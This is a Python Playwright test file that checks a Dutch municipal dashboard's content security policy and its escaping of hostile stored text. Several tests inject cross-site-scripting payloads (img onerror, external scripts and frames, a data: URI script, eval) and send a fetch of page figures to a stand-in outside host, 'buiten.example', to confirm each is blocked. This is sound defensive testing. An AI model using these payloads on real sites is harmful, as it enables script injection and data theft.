"""The pages under the content policy, and texts that want to be more than text."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page

from tests.e2e.browsing import PATHS, new_context, settle, upload, visit
from tests.e2e.hostile import FILE, LINES, MARK, TEXT, bare, poison
from tests.e2e.servers import Server, copy_store, serving

CHOICES = "halfjaar=2026-1&gemeente=GM0983"
_VIOLATIONS = """document.addEventListener('securitypolicyviolation', (event) => {
    const found = sessionStorage.getItem('violations') || '';
    const said = `${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}`;
    sessionStorage.setItem('violations', `${found}${location.pathname}: ${said}\\n`);
})"""
_OPEN_ALL = "document.querySelectorAll('summary').forEach((panel) => panel.click())"
_REPORTED = "sessionStorage.getItem('violations') || ''"


@pytest.fixture
def watched(page: Page) -> Page:
    """A window that remembers what the policy forbade, also after it went to another page."""
    page.add_init_script(_VIOLATIONS)
    return page


# --- the policy -----------------------------------------------------------------------------


@pytest.mark.parametrize("path", PATHS)
def test_a_page_works_under_the_policy(path: str, demo: Server, watched: Page) -> None:
    visit(watched, f"{demo.url}{path}?{CHOICES}")
    answer = watched.request.get(f"{demo.url}{path}", headers={"Accept": "text/html"})
    assert "default-src 'none'" in answer.headers["content-security-policy"]
    watched.evaluate(_OPEN_ALL)
    settle(watched)
    assert watched.evaluate(_REPORTED) == ""
    assert watched.evaluate("typeof WebAssembly") == "undefined", "nobody even tries"


def test_pages_look_as_they_should_under_the_policy(demo: Server, watched: Page) -> None:
    """Style sheets of Streamlit, of ours and of plotly are in force, and colours in attributes."""
    visit(watched, f"{demo.url}/gemeente?{CHOICES}")
    padding = "getComputedStyle(document.querySelector('[data-testid=stMainBlockContainer]'))"
    assert watched.evaluate(f"{padding}.paddingLeft") == "32px"
    assert watched.evaluate("document.querySelector('.js-plotly-plot').clientWidth") > 300
    bold = "[...document.querySelectorAll('.js-plotly-plot [style*=\"font-weight\"]')].length"
    assert watched.evaluate(bold) > 0
    visit(watched, f"{demo.url}/kader")
    rule = "getComputedStyle(document.querySelector('.ladder ol > li .tread')).backgroundColor"
    assert watched.evaluate(rule) != "rgba(0, 0, 0, 0)"


def test_going_around_downloading_uploading_and_printing_forbid_nothing(
    scratch: Server, demo: Server, watched: Page
) -> None:
    visit(watched, f"{demo.url}/?{CHOICES}")
    for name in ("Kaart", "Gemeente", "Escalatie"):
        watched.get_by_role("link", name=name, exact=True).first.click()
        settle(watched)
    with watched.expect_download() as fetched:
        watched.get_by_role("button", name="Download als CSV").click()
    assert Path(fetched.value.path()).read_bytes().startswith(b"\xef\xbb\xbf")
    with watched.expect_download() as fetched:
        watched.get_by_role("button", name="Rapportage als PDF").click()
    assert Path(fetched.value.path()).read_bytes().startswith(b"%PDF")
    watched.emulate_media(media="print")
    assert watched.pdf().startswith(b"%PDF")
    watched.emulate_media(media="screen")
    assert watched.evaluate(_REPORTED) == ""
    visit(watched, f"{scratch.url}/inlezen")
    upload(watched, "proef.csv", b"Gemeente;Gerealiseerd\nBeek;twaalf\n")
    watched.get_by_role("button", name="Terzijde leggen").click()
    settle(watched)
    assert watched.evaluate(_REPORTED) == ""


_INJECTED = """(html) => {
    const holder = document.createElement('div');
    document.body.append(holder);
    holder.innerHTML = html;
}"""
_SCRIPT = """(source) => new Promise((done) => {
    const script = document.createElement('script');
    script.onerror = () => done('blocked');
    script.onload = () => done('loaded');
    script.src = source;
    document.body.append(script);
})"""


@pytest.mark.parametrize(
    ("html", "directive"),
    [
        ("<img src='http://buiten.example/p.png'>", "img-src"),
        ("<img src=x onerror='window.__taken=1'>", "script-src-attr"),
        ("<iframe src='http://buiten.example'></iframe>", "frame-src"),
        ("<object data='http://buiten.example'></object>", "object-src"),
        ("<style>*{color:red}</style>", "style-src-elem"),
        ("<link rel=stylesheet href='http://buiten.example/x.css'>", "style-src-elem"),
        ("<base href='http://buiten.example'>", "base-uri"),
        ("<video src='http://buiten.example/v.mp4'></video>", "media-src"),
    ],
)
def test_what_somebody_injects_is_stopped(
    html: str, directive: str, demo: Server, html_page: Page
) -> None:
    visit(html_page, f"{demo.url}/kader")
    html_page.evaluate(_INJECTED, html)
    html_page.wait_for_function(f"() => ({_REPORTED}).includes('{directive} ')")
    assert html_page.evaluate("window.__taken") is None


@pytest.mark.parametrize(
    "source", ["http://buiten.example/x.js", "data:text/javascript,window.__taken=1"]
)
def test_a_script_from_elsewhere_does_not_run(source: str, demo: Server, html_page: Page) -> None:
    visit(html_page, f"{demo.url}/kader")
    assert html_page.evaluate(_SCRIPT, source) == "blocked"
    html_page.evaluate(
        "() => { const s = document.createElement('script'); s.textContent = 'window.__taken=1';"
        " document.body.append(s); }"
    )
    assert html_page.evaluate("window.__taken") is None
    sent = "(url) => fetch(url).then(() => 'sent', () => 'blocked')"
    assert html_page.evaluate(sent, "http://buiten.example/?figures") == "blocked"


@pytest.mark.parametrize("code", ["eval('1')", "new Function('return 1')()"])
def test_no_text_becomes_code(code: str, demo: Server, html_page: Page) -> None:
    """Tried by a script of the page itself: what a test evaluates is let through."""
    visit(html_page, f"{demo.url}/kader")
    tried = f"try {{ {code}; window.__said = 'ran'; }} catch (e) {{ window.__said = e.name; }}"
    blob = "(code) => URL.createObjectURL(new Blob([code], {type: 'text/javascript'}))"
    assert html_page.evaluate(_SCRIPT, html_page.evaluate(blob, tried)) == "loaded"
    assert html_page.evaluate("window.__said") == "EvalError"


@pytest.fixture
def html_page(browser: Browser) -> Iterator[Page]:
    """A window of its own: here errors on the console are what is asked for."""
    context = new_context(browser)
    asked, stopped = [], []
    context.on("request", lambda request: asked.append(request.url))
    context.on("requestfailed", lambda request: stopped.append((request.url, request.failure)))
    page = context.new_page()
    page.add_init_script(_VIOLATIONS)
    yield page
    context.close()
    outside = {url for url in asked if "buiten" in url}
    assert outside == {url for url, why in stopped if why == "csp"}, "a request left this machine"


def test_no_other_site_can_frame_a_page(demo: Server, html_page: Page) -> None:
    html_page.set_content(f"<iframe src='{demo.url}/kader'></iframe>")
    html_page.wait_for_timeout(1500)
    assert html_page.frames[1].get_by_role("heading").count() == 0


# --- texts ----------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def poisoned(demo_store: Path, folder: Path) -> Iterator[Server]:
    """A server whose store holds the hostile text in every place that a person or file fills."""
    store = copy_store(demo_store, folder / "poisoned.db")
    poison(store)
    with serving(Server(store, folder / "poisoned.log")) as server:
        yield server


_DEEPEST = """(mark) => {
    const holds = (each) => each.textContent.includes(mark);
    return [...document.querySelectorAll('body *:not(script, style)')]
        .filter((each) => holds(each) && ![...each.children].some(holds));
}"""
"""The elements in which the text stands, and nothing around it."""
_SHOWN = f"(mark) => ({_DEEPEST})(mark).map((each) => each.textContent)"
_MADE = f"""(mark) => [
    ...({_DEEPEST})(mark).flatMap((each) => [...each.querySelectorAll(':not(br, span.line)')]),
    ...document.querySelectorAll('[href*="buiten"], [src*="buiten"], [onerror], [onload]'),
].map((each) => each.outerHTML.slice(0, 200))"""
"""What became of the text besides text, line breaks, and dates that stay on one line."""
SOURCES = [bare(each) for each in (LINES, TEXT, FILE)]


def is_literal(shown: str) -> bool:
    """Whether a text stands there whole, or its beginning where a cell has no room for more."""
    text = bare(shown)
    if any(source in text for source in SOURCES):
        return True
    beginning = text[text.index(MARK) :].partition("…")[0].rstrip("'.")
    return any(len(beginning) > 30 and source.startswith(beginning) for source in SOURCES)


_PLACES = {
    "/": CHOICES,
    "/gemeente": CHOICES,
    "/gemeente?": "halfjaar=2026-1&gemeente=GM0928",
    "/gemeente??": "halfjaar=2026-1&gemeente=GM0957",
    "/escalatie": "halfjaar=2026-2",
    "/inlezen": "",
    "/logboek": "rijen=alle",
    "/regio": "halfjaar=2026-2",
}


@pytest.mark.parametrize("place", _PLACES, ids=str)
def test_a_hostile_text_is_shown_as_it_is(place: str, poisoned: Server, watched: Page) -> None:
    visit(watched, f"{poisoned.url}{place.rstrip('?')}?{_PLACES[place]}")
    watched.evaluate(_OPEN_ALL)
    settle(watched)
    assert watched.evaluate("window.__taken") is None
    assert watched.evaluate(_MADE, MARK) == []
    assert watched.evaluate(_REPORTED) == ""
    shown = watched.evaluate(_SHOWN, MARK)
    assert [each for each in shown if not is_literal(each)] == []
    assert shown or place == "/regio", "the text has to be there"
